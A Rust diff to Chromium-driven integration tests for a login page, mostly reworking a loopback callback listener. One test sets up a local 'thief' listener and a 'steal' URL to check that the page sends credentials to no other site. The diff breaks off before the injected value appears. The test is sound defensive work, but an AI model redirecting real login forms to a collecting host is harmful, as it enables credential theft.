@@ -1,10 +1,13 @@
 //! The pages in a real browser, which enforces CSP, cookie and redirect rules of its own.
 
+use std::time::Duration;
+
 use integration::chromium::{Chromium, foreign_page};
 use serde_json::json;
 use tokio::{
     io::{AsyncReadExt as _, AsyncWriteExt as _},
-    net::TcpListener,
+    net::{TcpListener, TcpStream},
+    sync::mpsc,
 };
 
 use crate::world::{CLIENT, EMAIL, On, PASSWORD, World, authorization_parameters, query};
@@ -20,20 +23,33 @@ async fn fill(chromium: &Chromium, email: &str, password: &str) {
     chromium.click("button").await.unwrap();
 }
 
-/// Path and query of the request that a browser sends to a loopback listener.
+/// Path and query of the request that a browser sends to a loopback listener. Browsers open connections
+/// ahead and ask for icons, so each connection is served on its own.
 async fn called_back(listener: &TcpListener) -> String {
-    loop {
-        let (mut connection, _) = listener.accept().await.unwrap();
-        let mut request = vec![0; 4096];
-        let length = connection.read(&mut request).await.unwrap();
-        let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndone";
-        connection.write_all(answer).await.unwrap();
-        let text = String::from_utf8_lossy(&request[..length]);
-        let path = text.split(' ').nth(1).unwrap_or_default();
-        // Browsers open connections ahead and ask for icons.
-        if path.starts_with("/callback") {
-            return path.to_owned();
+    let (sender, mut paths) = mpsc::channel(1);
+    let accepted = async {
+        loop {
+            let (connection, _) = listener.accept().await.unwrap();
+            tokio::spawn(serve_callback(connection, sender.clone()));
         }
+    };
+    tokio::select! {
+        path = paths.recv() => path.unwrap(),
+        () = accepted => unreachable!(),
+        () = tokio::time::sleep(Duration::from_mins(1)) => panic!("the browser sends no request"),
+    }
+}
+
+async fn serve_callback(mut connection: TcpStream, paths: mpsc::Sender<String>) {
+    let mut request = vec![0; 4096];
+    // A browser closes connections that it does not need.
+    let Ok(length) = connection.read(&mut request).await else { return };
+    let answer = b"HTTP/1.1 200 OK\r\nContent-Length: 4\r\nConnection: close\r\n\r\ndone";
+    let _ = connection.write_all(answer).await;
+    let text = String::from_utf8_lossy(&request[..length]);
+    let path = text.split(' ').nth(1).unwrap_or_default();
+    if path.starts_with("/callback") {
+        let _ = paths.send(path.to_owned()).await;
     }
 }
 
@@ -81,7 +97,10 @@ async fn the_page_submits_to_no_other_site_and_runs_no_script() {
     let chromium = Chromium::start().await.unwrap();
     let thief = TcpListener::bind("127.0.0.1:0").await.unwrap();
     chromium.open(&address(&world, "http://127.0.0.1:49152/callback")).await.unwrap();
-    chromium.until("document.querySelector('#password') !== null").await.unwrap();
+    chromium
+        .until("document.readyState === 'complete' && document.forms.length > 0")
+        .await
+        .unwrap();
     let steal = json!(format!("http://{}/callback", thief.local_addr().unwrap()));
     chromium
         .value(&format!(
